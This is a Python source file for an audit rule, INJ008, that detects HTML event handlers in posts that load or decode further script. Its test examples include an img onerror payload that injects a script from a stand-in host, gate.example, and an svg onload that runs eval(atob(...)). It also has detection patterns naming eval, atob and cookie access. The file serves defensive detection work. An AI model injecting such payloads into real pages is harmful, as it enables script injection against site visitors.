"""INJ008."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from audit.finding import Confidence, Evidence, Finding, Severity
from audit.post import Post
from audit.rule import Bad, Good, PostRule
from audit.rules.injected._code import AUTOMATIC, loaded_addresses, named_addresses, pieces, shown
from audit.rules.injected._signatures import ADVICE, CHECKS, is_dangerous

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from audit.facts import Facts
    from audit.rules.injected._code import Piece

_TEXT = "<p>The boats rose with the tide.</p>"
_LEADS_AWAY = re.compile(
    r"\blocation(?:\s*\.\s*(?:href|replace|assign))?\s*(?:=(?!=)|\()|\bopen\s*\(\s*['\"`](?:https?:)?//", re.IGNORECASE
)
_COUNTS = re.compile(
    r"\b(?:gtag|ga|fbq|_paq|dataLayer|_gaq|ym|plausible|umami)\s*[.(]|\bnew\s+Image\b|sendBeacon", re.IGNORECASE
)
_RUNS = re.compile(
    r"eval\s*\(|atob\s*\(|unescape\s*\(|fromCharCode|createElement|\bimport\s*\(|getScript|Function\s*\(|cookie",
    re.IGNORECASE,
)


class EventHandlerLoader(PostRule[Post], code="INJ008", severity=Severity.ERROR, since="0.1.0"):
    """A picture or another element runs code that loads or decodes more.

    A handler on a picture that cannot load is a script without a script tag: it passes filters that look for tags, and
    it runs at once.
    """

    remedy = ADVICE
    sources = CHECKS
    needs = frozenset({"content"})
    reads_content = True
    examples = (
        Bad(
            f'{_TEXT}<img src="x" alt="" onerror="var s=document.createElement(\'script\');'
            "s.src='//gate.example/c.js';document.body.appendChild(s)\">",
            says="gate.example",
            points_at="onerror",
        ),
        Bad(f"{_TEXT}<svg onload=\"eval(atob('YWxlcnQoMSk='))\"></svg>", says="onload"),
        Bad(
            _TEXT,
            fields={"excerpt": {"rendered": "<p>Low water.</p><svg onload=\"eval(atob('YWxlcnQoMSk='))\"></svg>"}},
            says="in the excerpt",
        ),
        Good(f'{_TEXT}<img src="/tide.jpg" alt="Tide" onerror="this.onerror=null;this.src=\'/none.png\'">'),
        Good(f'{_TEXT}<img src="/tide.jpg" alt="Tide" onload="this.parentNode.style.opacity=1">'),
        Good(f"{_TEXT}<p onclick=\"location.href='https://partner.example/'\">Partner</p>", note="Somebody clicks."),
        Good(f'{_TEXT}<link rel="preload" href="/a.css" onload="this.rel=\'stylesheet\'">'),
    )

    def check(self, subject: Post, facts: Facts) -> Iterable[Finding]:
        """Handlers that run without a click; one finding for each code."""
        return _found(facts) if pieces(facts) else ()


def _found(facts: Facts) -> Iterator[Finding]:
    seen: set[str] = set()
    for piece in pieces(facts):
        if piece.kind != "handler" or piece.attribute not in AUTOMATIC or piece.code in seen:
            continue
        seen.add(piece.code)
        said = _said(piece, facts)
        if said:
            hidden = shown(" … ".join(piece.reading.payloads))
            evidence = (Evidence("code", shown(piece.code)),)
            yield Finding(
                f"The handler {piece.attribute} of <{piece.node.tag}> in the {piece.where} {said}.",
                at=piece.place,
                value=shown(piece.code),
                confidence=Confidence.LIKELY,
                evidence=(*evidence, Evidence("decodes to", hidden)) if hidden else evidence,
            )


def _said(piece: Piece, facts: Facts) -> str:
    reading = piece.reading
    whole = reading.whole
    loaded = loaded_addresses(reading, facts)
    if loaded:
        return f"loads a script from {loaded[0].host}"
    hits = [hit for hit in reading.hits if hit.certain]
    if hits and not reading.hides_only_contact():
        return hits[0].says
    hosts = named_addresses(whole, facts)
    if hosts and _LEADS_AWAY.search(whole):
        return f"leads readers to {hosts[0].host}"
    if not is_dangerous(whole):
        return ""
    if hosts and not _COUNTS.search(whole):
        return f"exchanges data with {hosts[0].host}"
    return "runs code that it decodes or writes" if _RUNS.search(whole) and not hosts and reading.payloads else ""
